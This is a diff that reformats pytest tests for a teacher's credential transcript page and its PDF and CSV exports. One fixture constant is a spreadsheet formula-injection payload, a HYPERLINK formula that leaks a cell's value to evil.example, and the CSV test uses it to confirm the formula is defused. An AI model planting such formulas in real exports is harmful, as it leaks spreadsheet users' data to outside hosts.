@@ -21,17 +21,43 @@ INJECTED = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
 def world(app, session):
     issuing = Issuing.from_settings(app.config["SETTINGS"])
     org = make_org(session, name="Riverbend Unified")
-    teacher = make_user(session, "teacher", name="Maya Patel", org_id=org.id,
-                        timezone="America/Chicago")
+    teacher = make_user(
+        session, "teacher", name="Maya Patel", org_id=org.id, timezone="America/Chicago"
+    )
     awards = [
-        signed_award(session, teacher, issuing=issuing, title="Working Memory", hours=2.5,
-                     at=datetime(2025, 3, 4, 15, tzinfo=UTC)),
-        signed_award(session, teacher, issuing=issuing, title=INJECTED, hours=1,
-                     at=datetime(2025, 9, 10, 15, tzinfo=UTC)),
-        signed_award(session, teacher, issuing=issuing, title="Executive Function", hours=3,
-                     at=datetime(2025, 10, 1, 15, tzinfo=UTC)),
-        signed_award(session, teacher, issuing=issuing, title="Plagiarised Fractions", hours=8,
-                     at=datetime(2025, 11, 1, 15, tzinfo=UTC), revoked=True),
+        signed_award(
+            session,
+            teacher,
+            issuing=issuing,
+            title="Working Memory",
+            hours=2.5,
+            at=datetime(2025, 3, 4, 15, tzinfo=UTC),
+        ),
+        signed_award(
+            session,
+            teacher,
+            issuing=issuing,
+            title=INJECTED,
+            hours=1,
+            at=datetime(2025, 9, 10, 15, tzinfo=UTC),
+        ),
+        signed_award(
+            session,
+            teacher,
+            issuing=issuing,
+            title="Executive Function",
+            hours=3,
+            at=datetime(2025, 10, 1, 15, tzinfo=UTC),
+        ),
+        signed_award(
+            session,
+            teacher,
+            issuing=issuing,
+            title="Plagiarised Fractions",
+            hours=8,
+            at=datetime(2025, 11, 1, 15, tzinfo=UTC),
+            revoked=True,
+        ),
     ]
     return {"teacher": teacher, "awards": awards, "org": org}
 
@@ -39,9 +65,20 @@ def world(app, session):
 def test_the_page_lists_every_credential_with_totals_by_school_year(client, world):
     sign_in_as(client, world["teacher"])
     html = client.get("/transcript").get_data(as_text=True)
-    for text in ("My transcript", "Working Memory", "Executive Function", "Riverbend Unified",
-                 "4 March 2025", "2024–25", "2025–26", "1 July – 30 June", "America/Chicago",
-                 "6.5", "Download PDF", "Download CSV"):
+    for text in (
+        "My transcript",
+        "Working Memory",
+        "Executive Function",
+        "Riverbend Unified",
+        "4 March 2025",
+        "2024–25",
+        "2025–26",
+        "1 July – 30 June",
+        "America/Chicago",
+        "6.5",
+        "Download PDF",
+        "Download CSV",
+    ):
         assert text in html, text
     for award in world["awards"][:3]:
         assert f'href="/badges/{award.uuid}"' in html
@@ -67,13 +104,24 @@ def test_the_csv_holds_earned_credentials_with_formulas_defused(client, world):
     assert response.mimetype == "text/csv"
     assert 'filename="transcript.csv"' in response.headers["Content-Disposition"]
     header, *rows = _csv(response)
-    assert header == ["date", "credential", "issuer", "credit_hours", "school_year",
-                      "verification_url"]
+    assert header == [
+        "date",
+        "credential",
+        "issuer",
+        "credit_hours",
+        "school_year",
+        "verification_url",
+    ]
     by_title = {row[1]: row for row in rows}
     assert set(by_title) == {"Working Memory", "'" + INJECTED, "Executive Function"}
     assert by_title["Working Memory"] == [
-        "2025-03-04", "Working Memory", "Riverbend Unified", "2.5", "2024–25",
-        f"http://localhost/badges/{world['awards'][0].uuid}"]
+        "2025-03-04",
+        "Working Memory",
+        "Riverbend Unified",
+        "2.5",
+        "2024–25",
+        f"http://localhost/badges/{world['awards'][0].uuid}",
+    ]
 
 
 def test_the_pdf_holds_every_credential_and_the_total(client, world):
@@ -82,11 +130,17 @@ def test_the_pdf_holds_every_credential_and_the_total(client, world):
     assert response.mimetype == "application/pdf"
     reader = pypdf.PdfReader(io.BytesIO(response.data))
     text = "\n".join(page.extract_text() for page in reader.pages)
-    for expected in ("Maya Patel", "District: Riverbend Unified", "Working Memory",
-                     "Executive Function", INJECTED, "4 March 2025",
-                     "School year 2025-26: 4 credit hours (2 credentials)",
-                     "School year 2024-25: 2.5 credit hours (1 credential)",
-                     "Total: 6.5 credit hours from 3 credentials"):
+    for expected in (
+        "Maya Patel",
+        "District: Riverbend Unified",
+        "Working Memory",
+        "Executive Function",
+        INJECTED,
+        "4 March 2025",
+        "School year 2025-26: 4 credit hours (2 credentials)",
+        "School year 2024-25: 2.5 credit hours (1 credential)",
+        "Total: 6.5 credit hours from 3 credentials",
+    ):
         assert expected in text, expected
     for award in world["awards"][:3]:
         assert f"http://localhost/badges/{award.uuid}" in text
